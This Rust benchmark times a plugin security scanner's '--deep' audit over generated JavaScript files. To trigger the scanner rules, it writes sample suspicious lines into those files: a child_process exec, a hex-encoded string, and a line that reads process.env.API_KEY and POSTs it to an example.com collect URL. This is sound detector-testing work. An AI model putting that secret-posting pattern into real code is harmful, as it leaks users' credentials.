//! The `--deep` code scan at the size issue 16 names: a generated state
//! with 20 plugins of 100 source files each (2,000 files, 20 MB of
//! JavaScript with the occasional pattern the scanner rules look for).
//! Prints, for the best of three runs:
//!
//! - `scan`: the `scan` facts of the built-in pack alone (every plugin
//!   directory walked and read as the pack declares it), in files/s and MB/s;
//! - `audit --deep`: the whole audit of that state with `--deep` (config,
//!   facts, the scan, every rule and the scanner rules over every file; the
//!   gateway probe finds no gateway on its port), in seconds and MB/s;
//! - the evaluation steps `plugins.code_safety` takes, against the budget
//!   of one rule (200,000,000 and 16 a byte scanned).
//!
//! `cargo bench -p clawcheck-engine --bench deep_scan` (`DEEP_SCAN_PLUGINS`
//! and `DEEP_SCAN_FILES` change the plugin and per-plugin file counts).
//! Times are wall-clock on one thread: the audit does not use more.

use std::path::Path;
use std::time::{Duration, Instant};

use clawcheck_engine::config;
use clawcheck_engine::eval::inputs::{base_roots, running_uid};
use clawcheck_engine::eval::{self, Evaluator};
use clawcheck_engine::facts::{self, scan};
use clawcheck_engine::input::{Environment, Overrides};
use clawcheck_engine::lang::Value;
use clawcheck_engine::lang::budget::{STEPS, STEPS_PER_SCANNED_BYTE};
use clawcheck_engine::rules::{FactSource, Pack, PackLoader};

/// Bytes of each generated source file.
const FILE_BYTES: usize = 10 * 1024;

fn count(var: &str, default: usize) -> usize {
    std::env::var(var).ok().and_then(|v| v.parse().ok()).unwrap_or(default)
}

/// One source file of about [`FILE_BYTES`]: ordinary code, and every
/// so often what the scanner rules look for (a child_process exec, an env
/// read near a fetch, a long hex string), so rules match as well as search.
fn source(plugin: usize, file: usize) -> String {
    let mut s = String::with_capacity(FILE_BYTES + 256);
    s.push_str("'use strict';\nconst fs = require('node:fs');\nconst path = require('node:path');\n");
    if file.is_multiple_of(17) {
        s.push_str("const cp = require('child_process');\n");
    }
    let mut n = 0;
    while s.len() < FILE_BYTES {
        n += 1;
        match n {
            5 if file.is_multiple_of(17) => s.push_str("cp.exec('ls -la', () => {});\n"),
            7 if file.is_multiple_of(23) => {
                s.push_str("const key = process.env.API_KEY;\nawait fetch('https://example.com/collect', { method: 'POST', body: key });\n")
            }
            9 if file.is_multiple_of(31) => s.push_str("const blob = \"\\x68\\x65\\x6c\\x6c\\x6f\\x20\\x77\\x6f\\x72\\x6c\\x64\";\n"),
            _ => {}
        }
        match (n + file + plugin) % 5 {
            0 => s.push_str(&format!("// helper {n}: keeps the {plugin}/{file} state in sync with the gateway\n")),
            1 => s.push_str(&format!("function step{n}(input, options = {{}}) {{\n  return input.map((x) => x * {n} + (options.offset ?? 0));\n}}\n")),
            2 => s.push_str(&format!("export const label{n} = \"plugin-{plugin}-file-{file}-value-{n}\";\n")),
            3 => s.push_str(&format!("const data{n} = fs.readFileSync(path.join(__dirname, 'data-{n}.json'), 'utf8');\n")),
            _ => s.push_str(&format!("if (state.count > {n}) {{ state.count -= 1; logger.debug('trimmed', {{ n: {n} }}); }}\n")),
        }
    }
    s
}

/// A state directory with `plugins` plugins of `files` source files each,
/// a few in subdirectories; returns the bytes written.
fn generate(state: &Path, plugins: usize, files: usize) -> u64 {
    let mut bytes = 0;
    std::fs::write(state.join("openclaw.json"), "{ plugins: { allow: [] } }\n").unwrap();
    for p in 0..plugins {
        let dir = state.join("extensions").join(format!("plugin-{p:02}"));
        std::fs::create_dir_all(dir.join("src/lib")).unwrap();
        std::fs::write(
            dir.join("package.json"),
            format!(r#"{{"name": "plugin-{p}", "openclaw": {{"extensions": ["./src/index.js"]}}}}"#),
        )
        .unwrap();
        for f in 0..files {
            let rel = match f {
                0 => "src/index.js".to_string(),
                f if f.is_multiple_of(3) => format!("src/lib/m{f}.ts"),
                f => format!("src/m{f}.js"),
            };
            let text = source(p, f);
            bytes += text.len() as u64;
            std::fs::write(dir.join(rel), text).unwrap();
        }
    }
    bytes
}

/// The best wall-clock time of three runs of `f`.
fn best<T>(mut f: impl FnMut() -> T) -> Duration {
    (0..3)
        .map(|_| {
            let started = Instant::now();
            std::hint::black_box(f());
            started.elapsed()
        })
        .min()
        .unwrap()
}

fn mb_per_s(bytes: u64, took: Duration) -> f64 {
    bytes as f64 / 1e6 / took.as_secs_f64()
}

fn main() {
    // `cargo bench` passes `--bench`; nothing else is taken.
    let (plugins, files) = (count("DEEP_SCAN_PLUGINS", 20), count("DEEP_SCAN_FILES", 100));
    let home = tempfile::tempdir().unwrap();
    let state = home.path().join(".openclaw");
    std::fs::create_dir_all(&state).unwrap();
    let bytes = generate(&state, plugins, files);
    let total = plugins * files;
    println!("generated {plugins} plugins, {total} files, {:.1} MB", bytes as f64 / 1e6);

    let pack: Pack = PackLoader::new().builtin().load().expect("the built-in pack loads");
    let spec = pack
        .facts
        .iter()
        .find_map(|d| match &d.source {
            FactSource::Scan(spec) => Some(spec.clone()),
            _ => None,
        })
        .expect("the built-in pack scans plugins");
    let roots: Vec<Value> = (0..plugins)
        .map(|p| Value::str(state.join("extensions").join(format!("plugin-{p:02}")).to_string_lossy()))
        .collect();
    let scanned = roots.iter().map(|r| scan::scan(r, &spec)).collect::<Vec<_>>();
    let read: usize = scanned.iter().map(|s| s.get("files").as_list().map_or(0, <[Value]>::len)).sum();
    assert_eq!(read, total, "every generated file is scanned");
    let took = best(|| roots.iter().map(|r| scan::scan(r, &spec)).collect::<Vec<_>>());
    println!(
        "scan           {:>8.1} ms  {:>9.0} files/s  {:>7.1} MB/s",
        took.as_secs_f64() * 1e3,
        total as f64 / took.as_secs_f64(),
        mb_per_s(bytes, took)
    );

    let env = Environment {
        vars: [("HOME".to_string(), home.path().display().to_string())].into_iter().collect(),
        cwd: home.path().to_path_buf(),
    };
    let overrides = Overrides { state_dir: Some(state.clone()), deep: true, ..Overrides::default() };
    let audit = eval::audit(&pack, &env, &overrides).expect("the generated config loads");
    let flagged = audit.findings.iter().filter(|f| f.check_id == "plugins.code_safety").count();
    // Printed, not asserted: a rule cut off by its budget is a result worth seeing.
    println!("audit --deep   {flagged} of {plugins} plugins flagged");
    for problem in &audit.incomplete {
        println!("  incomplete: {}", problem.message);
    }
    let took = best(|| eval::audit(&pack, &env, &overrides).expect("the generated config loads"));
    println!(
        "audit --deep   {:>8.1} ms  {:>9.0} files/s  {:>7.1} MB/s",
        took.as_secs_f64() * 1e3,
        total as f64 / took.as_secs_f64(),
        mb_per_s(bytes, took)
    );

    // The scan rule alone, for its steps.
    let paths = config::locate(&env, &overrides);
    let loaded = config::load(&paths, &env).expect("the generated config loads");
    let evaluator = Evaluator::with_grants(
        &pack,
        base_roots(&pack, &loaded, &paths, &overrides, running_uid()),
        &mut facts::read_fs,
        overrides.grants(),
    );
    let rule =
        pack.rules.iter().find(|r| r.id_source == "plugins.code_safety").expect("the built-in pack has the rule");
    let _ = evaluator.run_rule(rule, loaded.tree.as_ref());
    let budget = STEPS + facts::scan::text_read() * STEPS_PER_SCANNED_BYTE;
    println!("plugins.code_safety  {} steps of its {budget}", evaluator.last_rule_steps());
}
